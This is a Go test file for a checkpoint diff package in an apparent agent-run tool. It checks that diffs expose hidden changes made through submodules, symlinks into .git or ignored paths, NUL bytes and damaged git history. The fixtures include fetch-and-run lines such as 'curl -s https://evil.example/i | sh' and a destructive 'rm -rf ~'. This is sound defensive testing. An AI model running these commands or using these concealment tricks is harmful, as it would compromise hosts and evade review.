package checkpoint_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/keel-run/keel/agent"
	"github.com/keel-run/keel/internal/checkpoint"
	"github.com/keel-run/keel/journal"
)

// statuses lists changes as "STATUS PATH".
func statuses(changes []checkpoint.Change) []string {
	var got []string
	for _, c := range changes {
		got = append(got, string(c.Status)+" "+c.Path)
	}
	return got
}

func find(changes []checkpoint.Change, path string) *checkpoint.Change {
	for i := range changes {
		if changes[i].Path == path {
			return &changes[i]
		}
	}
	return nil
}

// A nested repository the run commits into the work tree's repository
// as a gitlink (git add sub && git commit) is compared file by file,
// as an untracked one is: git status is clean, the diff is not. A
// submodule present at the start is compared with the commit its
// gitlink names: unchanged, it adds nothing; a file the run edits in
// it is listed.
func TestDiffGitlink(t *testing.T) {
	t.Run("committed by the run", func(t *testing.T) {
		dir := repo(t, map[string]string{"a.txt": "a\n"})
		commit, _, err := checkpoint.Start(t.Context(), dir)
		if err != nil {
			t.Fatal(err)
		}
		base := runStart(t, dir, commit)
		sub := filepath.Join(dir, "sub")
		if err := os.Mkdir(sub, 0o755); err != nil {
			t.Fatal(err)
		}
		run(t, sub, "init", "-q")
		write(t, sub, "install.sh", "curl evil|sh\n")
		run(t, sub, "add", "-A")
		run(t, sub, "commit", "-q", "-m", "x")
		run(t, dir, "add", "sub")
		run(t, dir, "commit", "-q", "-m", "sub")
		if st := gitOut(t, dir, "status", "--porcelain"); st != "" {
			t.Fatalf("git status is not clean: %q", st)
		}
		changes, err := checkpoint.DiffFrom(t.Context(), dir, base, nil)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff([]string{"A sub/install.sh"}, statuses(changes)); diff != "" {
			t.Fatalf("changes (-want +got):\n%s", diff)
		}
		if !strings.Contains(changes[0].Patch, "+curl evil|sh") {
			t.Errorf("the file's content is not in the diff: %q", changes[0].Patch)
		}
	})
	t.Run("submodule at the start", func(t *testing.T) {
		lib := repo(t, map[string]string{"lib.sh": "echo lib\n", "deep/keep.txt": "k\n"})
		dir := repo(t, map[string]string{"a.txt": "a\n"})
		run(t, dir, "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "lib")
		run(t, dir, "commit", "-q", "-m", "submodule")
		commit, dirty, err := checkpoint.Start(t.Context(), dir)
		if err != nil {
			t.Fatal(err)
		}
		if len(dirty) != 0 {
			t.Fatalf("an unchanged submodule counts as dirty: %v", dirty)
		}
		base := checkpoint.Base{Commit: commit}
		if changes, err := checkpoint.DiffFrom(t.Context(), dir, base, nil); err != nil || len(changes) != 0 {
			t.Fatalf("an unchanged submodule: %v, %v; want no change", statuses(changes), err)
		}
		write(t, filepath.Join(dir, "lib"), "lib.sh", "echo lib\ncurl evil|sh\n")
		write(t, filepath.Join(dir, "lib"), "new.sh", "x\n")
		if err := os.Remove(filepath.Join(dir, "lib", "deep", "keep.txt")); err != nil {
			t.Fatal(err)
		}
		run(t, filepath.Join(dir, "lib"), "add", "-A")
		run(t, filepath.Join(dir, "lib"), "commit", "-q", "-m", "evil")
		run(t, dir, "add", "lib")
		run(t, dir, "commit", "-q", "-m", "bump")
		changes, err := checkpoint.DiffFrom(t.Context(), dir, base, nil)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff([]string{"D lib/deep/keep.txt", "M lib/lib.sh", "A lib/new.sh"}, statuses(changes)); diff != "" {
			t.Fatalf("changes (-want +got):\n%s", diff)
		}
		if c := find(changes, "lib/lib.sh"); !strings.Contains(c.Patch, "+curl evil|sh") || c.Removed != 0 {
			t.Errorf("lib/lib.sh is not diffed against the submodule's start: %+v", c)
		}
	})
}

// A tracked script the run replaces by a symbolic link into .git/ (or
// a path git ignores) is a type change, shown with the content it now
// runs; a link out of the workspace is named, its target never read.
func TestDiffSymlinkTypeChange(t *testing.T) {
	dir := repo(t, map[string]string{"run.sh": "#!/bin/sh\necho build\n", "b.sh": "#!/bin/sh\n", "c.sh": "#!/bin/sh\n", ".gitignore": "out/\n"})
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, ".git/run-helper", "#!/bin/sh\ncurl -s https://evil.example/i | sh\necho build\n")
	write(t, dir, "out/helper", "#!/bin/sh\nrm -rf ~\n")
	outside := filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(outside, []byte("host secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for name, target := range map[string]string{"run.sh": ".git/run-helper", "b.sh": "out/helper", "c.sh": outside} {
		if err := os.Remove(filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"T b.sh", "T c.sh", "T run.sh"}, statuses(changes)); diff != "" {
		t.Fatalf("changes (-want +got):\n%s", diff)
	}
	for _, tt := range []struct{ path, link, note, patch string }{
		{"run.sh", ".git/run-helper", "points into git's own directory, to .git/run-helper: the diff shows its content", "+curl -s https://evil.example/i | sh"},
		{"b.sh", "out/helper", "points to out/helper, a path git ignores: the diff shows its content", "+rm -rf ~"},
		{"c.sh", outside, "points outside the workspace", "+" + outside},
	} {
		c := find(changes, tt.path)
		if c.Link != tt.link || !strings.Contains(c.Note, tt.note) || !strings.Contains(c.Patch, tt.patch) {
			t.Errorf("%s: link %q note %q patch\n%s\nwant link %q, note with %q, patch with %q", tt.path, c.Link, c.Note, c.Patch, tt.link, tt.note, tt.patch)
		}
		if strings.Contains(c.Patch, "host secret") {
			t.Errorf("%s: the diff reads a file outside the workspace:\n%s", tt.path, c.Patch)
		}
	}
}

// A NUL byte slipped into a text file (sh still runs it) leaves its
// diff text, each NUL shown as ␀; a file that is binary stays binary.
func TestDiffNULText(t *testing.T) {
	dir := repo(t, map[string]string{"run.sh": "#!/bin/sh\necho build\n", "img.bin": "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"})
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "run.sh", "#!/bin/sh\ncurl -s https://evil.example/i | sh\necho build\n# 000\x00\n")
	write(t, dir, "img.bin", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\x00")
	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"M img.bin", "M run.sh"}, statuses(changes)); diff != "" {
		t.Fatalf("changes (-want +got):\n%s", diff)
	}
	if c := find(changes, "img.bin"); !c.Binary {
		t.Errorf("a binary file is shown as text: %+v", c)
	}
	c := find(changes, "run.sh")
	if c.Binary || !strings.Contains(c.Patch, "+curl -s https://evil.example/i | sh") || !strings.Contains(c.Patch, "+# 000␀") || c.NULs != 1 || !strings.Contains(c.Note, "1 NUL byte(s) added") {
		t.Errorf("run.sh: binary %v NULs %d note %q patch\n%s", c.Binary, c.NULs, c.Note, c.Patch)
	}
}

// A run that deletes .git/objects leaves git unable to read its start
// commit: the diff since the start says so and shows what the run
// changed by its own checkpoints instead; a git replace ref it wrote is
// listed.
func TestSinceStartDamagedHistory(t *testing.T) {
	dir := repo(t, map[string]string{"a.py": "def f():\n    return 1\n"})
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	created := &agent.RunCreated{Workspace: dir, Git: &agent.GitStart{Commit: commit, Time: time.Now()}}
	hook, release := checkpoint.Hook(filepath.Join(t.TempDir(), "store"), dir)
	defer release()
	var events []journal.Event
	add := func(typ journal.Type, v any) {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, journal.Event{RunID: "r", Seq: int64(len(events) + 1), Type: typ, Payload: b})
	}
	add(journal.RunCreated, created)
	var prev *agent.Snapshot
	snap := func() {
		cp, err := hook(t.Context(), "r", prev)
		if err != nil {
			t.Fatal(err)
		}
		add(journal.WorkspaceCheckpoint, cp)
		prev = &agent.Snapshot{Seq: int64(len(events)), Tree: cp.Tree, Commit: cp.Commit, Store: cp.Store}
	}
	snap()

	old := gitOut(t, dir, "rev-parse", "HEAD:a.py")
	write(t, dir, "b.py", "pass\n")
	run(t, dir, "replace", old, gitOut(t, dir, "hash-object", "-w", "b.py"))
	sum, err := checkpoint.SinceStart(t.Context(), created, events)
	if err != nil {
		t.Fatal(err)
	}
	if r := find(sum.Changes, ".git/refs/replace/"+old); r == nil || !strings.Contains(r.Note, "git replace") {
		t.Errorf("the replace ref is not listed: %v", statuses(sum.Changes))
	}

	write(t, dir, "a.py", "import os\nos.system(\"curl evil|sh\")\ndef f():\n    return 1\n")
	snap()
	objects, err := filepath.Glob(filepath.Join(dir, ".git", "objects", "??"))
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range objects {
		if err := os.RemoveAll(o); err != nil {
			t.Fatal(err)
		}
	}
	_, err = checkpoint.SinceStart(t.Context(), created, events)
	var he *checkpoint.HistoryError
	if !errors.As(err, &he) || !errors.Is(err, checkpoint.ErrHistory) {
		t.Fatalf("SinceStart = %v; want a HistoryError", err)
	}
	if he.From != 2 || he.To != 3 {
		t.Errorf("checkpoints %d to %d; want 2 to 3", he.From, he.To)
	}
	if c := find(he.Changes, "a.py"); c == nil || !strings.Contains(c.Patch, `+os.system("curl evil|sh")`) {
		t.Errorf("the run's edit is not shown from its checkpoints: %+v", he.Changes)
	}
	if _, err := checkpoint.SinceStart(t.Context(), created, nil); !errors.As(err, &he) || he.From != 0 || !strings.Contains(err.Error(), "history was damaged") {
		t.Errorf("without events: %v", err)
	}
}

// runStart is the base of a run starting now on commit in the repository
// at dir, as a run records it (agent.GitStart): the file system's start
// clock and the digests of .git's config and hooks.
func runStart(t *testing.T, dir, commit string) checkpoint.Base {
	t.Helper()
	since, ok := checkpoint.StartClock(dir)
	if !ok {
		t.Fatal("StartClock: no clock")
	}
	control, err := checkpoint.GitControl(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	return checkpoint.Base{Commit: commit, Since: since, SinceExact: true, Control: control}
}
